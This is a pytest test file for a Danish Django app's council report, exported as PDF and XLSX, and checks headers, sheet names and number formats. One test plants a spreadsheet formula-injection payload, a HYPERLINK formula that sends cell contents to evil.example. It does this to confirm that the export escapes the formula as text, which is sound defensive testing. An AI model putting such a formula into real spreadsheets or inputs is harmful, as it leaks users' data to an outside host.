"""The council report as a PDF made on the server and as XLSX with its figures."""

import io
import sys
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from samskab.accounts import roles
from samskab.core import pdf

from .report_data import FIRST, LAST, Builder, moment

PERIOD = {"fra": "2025-01-01", "til": "2025-06-30"}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def data(personas, unit, settings):
    settings.SAMSKAB_MAX_ACTIVE_TASKS = 100
    build = Builder(personas, unit)
    task = build.task("Træn dig fri", started_on=date(2024, 6, 1), phase=5)
    build.gate(task, on=FIRST, to_phase=5)
    build.trial(task, "Hjemmetræning", starts_on=FIRST, ends_on=LAST, concluded_level=3)
    line = build.benefit_line(task, targets={2025: "365000"})
    build.realise(line, "50000", start=FIRST, end=LAST, taken_home=True)
    build.idea(confirmed_at=moment(FIRST))
    return {"task": task, "build": build}


@pytest.fixture
def council(client, personas):
    client.force_login(personas[roles.KOMMUNALBESTYRELSE])
    return client


# PDF -----------------------------------------------------------------------------------


def test_the_pdf_is_a_real_pdf_named_for_the_period(data, council):
    response = council.get(reverse("dashboards:report-pdf"), PERIOD)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        'attachment; filename="samskab-rapport-2025-01-01-2025-06-30.pdf"'
    )
    assert response.content.startswith(b"%PDF-")
    assert response.content.rstrip().endswith(b"%%EOF")


def test_the_pdf_is_the_print_view_of_the_page_with_numbered_pages(data, council):
    page = council.get(reverse("dashboards:report"), PERIOD).content.decode()

    document = pdf.render(page, base_url="http://testserver/")

    assert len(document.pages) > 0
    first = text_of(document.pages[0]._page_box)
    assert "Rapport til kommunalbestyrelsen" in first
    assert "Træn dig fri" in "".join(text_of(p._page_box) for p in document.pages)
    assert f"1 / {len(document.pages)}" in first  # the page number in the margin
    assert "Hent som PDF" not in first  # the form and the buttons are not printed


def test_a_download_with_a_period_out_of_bounds_goes_back_to_the_form(council):
    query = {"fra": "2025-07-01", "til": "2025-06-30"}
    for name in ("dashboards:report-pdf", "dashboards:report-xlsx"):
        response = council.get(reverse(name), query)
        assert response.status_code == 302
        assert (
            response["Location"] == f"{reverse('dashboards:report')}?fra=2025-07-01&til=2025-06-30"
        )
    page = council.get(response["Location"])
    assert "Periodens slutdato ligger før startdatoen." in page.content.decode()


def test_without_the_pdf_libraries_the_page_says_so(data, council, monkeypatch):
    monkeypatch.setitem(sys.modules, "weasyprint", None)  # as if Pango were missing

    response = council.get(reverse("dashboards:report-pdf"), PERIOD)

    assert response.status_code == 503
    assert "PDF-filen kunne ikke laves" in response.content.decode()


# XLSX ----------------------------------------------------------------------------------


def workbook_of(response) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(response.content))


def test_the_xlsx_has_a_sheet_per_section_named_for_the_period(data, council):
    response = council.get(reverse("dashboards:report-xlsx"), PERIOD)

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        'attachment; filename="samskab-rapport-2025-01-01-2025-06-30.xlsx"'
    )
    workbook = workbook_of(response)
    assert workbook.sheetnames == [
        "Om rapporten",
        "Portefølje",
        "Ændringer",
        "Beslutninger",
        "Prøvehandlinger",
        "Gevinster",
        "Idéer",
        "Udbredelse",
    ]
    about = {row[0]: row[1] for row in workbook["Om rapporten"].iter_rows(values_only=True)}
    assert (about["Fra"].date(), about["Til"].date()) == (date(2025, 1, 1), date(2025, 6, 30))


def test_the_xlsx_figures_carry_their_number_formats(data, council):
    workbook = workbook_of(council.get(reverse("dashboards:report-xlsx"), PERIOD))

    benefits = workbook["Gevinster"]
    header = [cell.value for cell in benefits[1]]
    assert header == [
        "Type",
        "Opgave",
        "Område",
        "Forventet i perioden",
        "Realiseret i perioden",
        "Realiseret af forventet",
        "Hjemtaget",
    ]
    total = list(benefits[2])
    assert [c.value for c in total[:2]] == ["Økonomisk (kr.)", "Alle opgaver"]
    assert (total[3].value, total[3].number_format) == (181000, '#,##0.00 "kr."')
    assert (total[4].value, total[4].number_format) == (50000, '#,##0.00 "kr."')
    assert total[5].number_format == "0.0%"
    assert total[5].value == pytest.approx(50000 / 181000)
    assert total[6].value == 50000

    changes = workbook["Ændringer"]
    row = list(changes[2])
    assert row[0].value.date() == FIRST and row[0].number_format == "dd-mm-yyyy"
    assert [c.value for c in row[1:]] == ["Gik gennem en gate", "Træn dig fri", 4, 5]

    trials = workbook["Prøvehandlinger"]
    trial = {h.value: c for h, c in zip(trials[1], trials[2], strict=True)}
    assert trial["Effekt"].value == pytest.approx(5.0)
    assert trial["Effekt"].number_format == "#,##0.00"
    assert trial["Evidensniveau"].value == 3

    ideas = workbook["Idéer"]
    assert [c.value for c in ideas[2]][:3] == ["Idé", 1, 1]


def test_the_xlsx_keeps_a_formula_typed_as_a_title_as_text(data, council):
    attack = '=HYPERLINK("http://evil.example/?t="&B2,"Åbn")'
    type(data["task"]).objects.filter(pk=data["task"].pk).update(title=attack)

    workbook = workbook_of(council.get(reverse("dashboards:report-xlsx"), PERIOD))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    typed = [cell for cell in cells if cell.value == attack]
    assert typed and all(cell.data_type == "s" and cell.quotePrefix for cell in typed)


def text_of(box) -> str:
    from weasyprint.formatting_structure import boxes

    if isinstance(box, boxes.TextBox):
        return box.text
    return "".join(text_of(child) for child in getattr(box, "children", []) or [])
